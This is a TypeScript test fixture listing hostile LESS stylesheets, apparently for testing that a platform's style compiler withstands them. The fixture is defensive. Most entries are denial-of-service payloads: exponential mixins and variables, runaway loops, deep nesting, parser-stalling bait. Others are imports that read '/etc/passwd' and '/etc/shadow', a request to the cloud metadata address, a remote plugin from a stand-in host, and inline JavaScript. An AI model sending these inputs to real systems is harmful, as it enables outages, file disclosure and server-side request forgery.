/** Style sheets that could be sent to harm the platform: one of each kind, as small as still does harm. */

const times = (count: number, make: (index: number) => string, separator = '\n') =>
  Array.from({ length: count }, (_, index) => make(index)).join(separator)

export const HOSTILE_STYLES: Readonly<Record<string, string>> = {
  'selectors multiplied by nesting': `${'&a,&b,&c,&d{'.repeat(12)}e:f${'}'.repeat(12)}`,
  'selectors multiplied by their parent, many times': `${'.a,.b,.c{& &{'.repeat(8)}e:f${'}}'.repeat(8)}`,
  'media multiplied by nesting': `${'@media a,b,c,d{'.repeat(12)}e{f:g}${'}'.repeat(12)}`,
  'mixins that call the next one twice': `${times(40, (n) => `.m${n}(){.m${n + 1};.m${n + 1}}`)}.m40(){a:b} c{.m0}`,
  'a mixin that calls itself twice': '.m(@n){a@{n}:b;.m(@n + 1);.m(@n + 1)} c{.m(1)}',
  'mixins that call each other': '.a(){.b;.b} .b(){.a;.a} c{.a}',
  'a loop whose guard is always true':
    '.l(@n) when (@n > 0){.x@{n}{a:b} .l(@n + 1);.l(@n + 1)} .l(1);',
  'a loop of a hundred million': '.l(@n) when (@n > 0){.a{b:@n} .l(@n - 1)} .l(100000000);',
  'rulesets as mixins in a chain': times(60, (n) => `.r${n}{.r${n + 1};.r${n + 1};a:b}`),
  'variables that double': `@a0:"xxxxxxxxxx";${times(40, (n) => `@a${n + 1}:"@{a${n}}@{a${n}}";`)} c{d:@a40}`,
  'lists that double': `@a0:1 2;${times(40, (n) => `@a${n + 1}:@a${n},@a${n};`)} c{d:@a40}`,
  'selectors from variables that double': `@a0:~"a,a";${times(30, (n) => `@a${n + 1}:~"@{a${n}},@{a${n}}";`)} @{a30}{b:c}`,
  'a variable that is itself': '@a:@b;@b:@c;@c:@a; d{e:@a;f:"@{a}"}',
  'fifty megabytes': 'a{b:c}\n'.repeat(7_500_000),
  'deep blocks': `${'a{'.repeat(100_000)}b:c${'}'.repeat(100_000)}`,
  'deep parentheses': `a{b:${'('.repeat(100_000)}1${')'.repeat(100_000)}}`,
  'deep calls': `a{b:${'calc('.repeat(50_000)}1${')'.repeat(50_000)}}`,
  'deep operations': `a{b:${'1+'.repeat(200_000)}1}`,
  'forty thousand extends': times(40_000, (n) => `.a${n}:extend(.b all){c:d}`),
  'two hundred thousand rules': 'a{b:c}'.repeat(200_000),
  'imports of everything': times(50_000, (n) => `@import "../../etc/passwd${n}";`),
  'the same import again and again': '@import "sqs-ui-font";'.repeat(20_000),
  'imports that import twice': 'x{@import "self";@import "self"}',
  'addresses of the server':
    '@import (inline) "/etc/passwd";\n@import "file:///etc/shadow";\n@import url(http://169.254.169.254/);a{b:data-uri("/etc/passwd")}',
  'plugins and scripts':
    '@plugin "x";@plugin "https://a.example/x.js";a{b:`process.exit()`;c:~`while(1){}`}',
  'bait of spaces': `a{b:c${' '.repeat(1_500_000)}}`,
  'bait of imports never ended': '@import url('.repeat(100_000),
  'bait of comments never closed': '/*/'.repeat(500_000),
  'bait of quotes': `a{b:${'"\\'.repeat(500_000)}`,
  'bait of slashes and brackets': `a{background:${'a / ['.repeat(200_000)}`,
  'bait of interpolations': '@{a'.repeat(500_000),
  'bait of tweaks': `${times(1_000, () => `// tweak: {"type":"value"${' '.repeat(1_000)}\n@a${' '.repeat(500)}:`)}`,
  'bait of attributes': `${'a[b '.repeat(300_000)}{c:d}`,
  'brackets that do not fit': '}{)(][;:'.repeat(200_000),
  bytes: Buffer.from(times(300_000, (n) => String.fromCharCode((n * 7919) % 256), '')).toString(),
  'arguments without end': `.m(@a...){b:@a} c{.m(${'1,'.repeat(200_000)}1)}`,
}
